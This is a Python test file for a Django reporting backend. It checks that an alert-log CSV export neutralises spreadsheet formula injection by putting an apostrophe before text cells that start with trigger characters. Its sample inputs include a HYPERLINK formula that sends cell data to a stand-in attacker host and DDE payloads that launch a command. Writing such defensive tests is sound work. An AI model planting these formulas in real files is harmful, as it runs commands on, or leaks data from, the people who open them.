"""The alert log CSV opens in Excel/WPS without running anything a user typed (OWASP "CSV injection"): a
text cell that starts with = + - @, a tab or a carriage return gets a leading apostrophe, so the
spreadsheet shows it as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from backend.core.models import Role
from backend.monitoring.actions.alerts import raise_alert, resolve_alert
from backend.monitoring.models import Alert
from tests.conftest import make_user
from tests.people import factories
from tests.reports.conftest import at

pytestmark = pytest.mark.django_db
CSV = "/api/v1/reports/alerts.csv?jurisdiction={code}&from=2026-10-01&to=2026-10-31"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_note_that_looks_like_a_formula_is_exported_as_text(tree, officers, api, typed):
    county = make_user("county_officer_a", tree.county_a, Role.COUNTY_OFFICER)
    person = factories.person(officers.owner, tree.township_a1, name="测试赵六")
    alert, _ = raise_alert(kind="sos", severity="critical", person=person, subject="t")
    resolve_alert(alert=alert, by=officers.owner, resolution="handled", note=typed)
    Alert.objects.filter(pk=alert.pk).update(opened_at=at(2026, 10, 5))
    response = api(county).get(CSV.format(code=tree.county_a.code))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    header, (row,) = rows[0], rows[1:]
    assert row[header.index("办结说明")] == "'" + typed
    assert row[header.index("编号")] == str(alert.pk)  # an id is a number, written as one
    assert row[header.index("对象")] == "测试赵六"


def test_only_text_cells_that_start_with_a_trigger_are_changed():
    from backend.reports.alert_log import neutralise

    assert neutralise("=1+1") == "'=1+1" and neutralise("@x") == "'@x" and neutralise("\r1") == "'\r1"
    assert neutralise("已电话核实") == "已电话核实" and neutralise("a=b") == "a=b" and neutralise("") == ""
    assert neutralise(-3) == -3 and neutralise(12) == 12 and neutralise(None) is None
